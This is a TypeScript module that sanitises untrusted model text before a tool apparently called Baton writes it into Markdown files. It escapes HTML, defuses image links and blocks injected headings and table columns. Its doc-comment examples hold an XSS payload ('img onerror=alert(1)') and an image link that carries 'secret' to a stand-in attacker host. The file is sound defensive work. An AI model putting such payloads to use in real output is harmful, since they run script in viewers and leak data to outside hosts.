import { sanitizeTerminal } from './terminal.js';

/**
 * The Markdown sanitizer: the one place untrusted text (candidates, judges' reasons, brief text,
 * decision reasons) enters a Markdown document Baton writes. A viewer renders Markdown, so the
 * text must not become markup that runs or fetches anything:
 *
 * - raw HTML (`<script>`, `<img onerror>`, `<iframe>`, comments) and autolinks are escaped
 *   (`<` → `&lt;`), so they show as text;
 * - images (`![x](url)`, `![x][ref]`, `![x]`) become text (`!\[x]…`), so nothing is fetched
 *   when the file is viewed — a remote image could carry data out in its URL;
 * - control characters are made visible as on a terminal (the file is also `cat`).
 *
 * Ordinary Markdown in model text (emphasis, lists, links, code) still renders. A `<` inside
 * the text's own code spans or blocks shows as `&lt;`: the price of not guessing where code is.
 */

/**
 * Untrusted text made inert for a Markdown block (e.g. a block quote, line by line).
 *
 * @example
 * sanitizeMarkdown('<img src=x onerror=alert(1)> ![x](http://evil.example/?q=secret)')
 * // '&lt;img src=x onerror=alert(1)> !\\[x](http://evil.example/?q=secret)'
 */
export function sanitizeMarkdown(text: string): string {
  return sanitizeTerminal(text)
    .replace(/</gu, '&lt;')
    .replace(/!\[/gu, '!\\[');
}

/**
 * Untrusted text for one line of Markdown (a list item, a heading): as `sanitizeMarkdown`, with
 * line breaks folded into spaces so the text cannot start a heading or a block of its own.
 *
 * @example
 * markdownInline('fine\n# Accepted') // 'fine # Accepted'
 */
export function markdownInline(text: string): string {
  return sanitizeMarkdown(text.replace(/\s*[\r\n]+\s*/gu, ' '));
}

/**
 * Untrusted text for a table cell: inline, with `|` escaped so it cannot open a new column.
 *
 * @example
 * markdownCell('a | b\nc') // 'a \\| b c'
 */
export function markdownCell(text: string): string {
  return markdownInline(text).replace(/\|/gu, '\\|');
}

/**
 * Untrusted text as a Markdown block quote, each line marked, so it cannot pass for Baton's own
 * words and cannot end the quote early.
 *
 * @example
 * markdownQuote('line one\n<script>x</script>') // '> line one\n> &lt;script>x&lt;/script>'
 */
export function markdownQuote(text: string): string {
  return sanitizeMarkdown(text)
    .split('\n')
    .map((line) => (line === '' ? '>' : `> ${line}`))
    .join('\n');
}
